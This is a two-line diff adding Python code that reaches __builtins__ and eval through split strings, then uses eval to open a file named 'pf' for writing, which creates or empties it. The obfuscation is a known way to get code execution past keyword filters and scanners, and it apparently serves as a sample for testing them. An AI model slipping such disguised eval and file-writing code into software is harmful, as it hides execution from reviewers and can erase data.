@@ -1,0 +1,2 @@
+b = globals()["__built" "ins__"]
+b["ev" + "al"]("open('pf','w')")
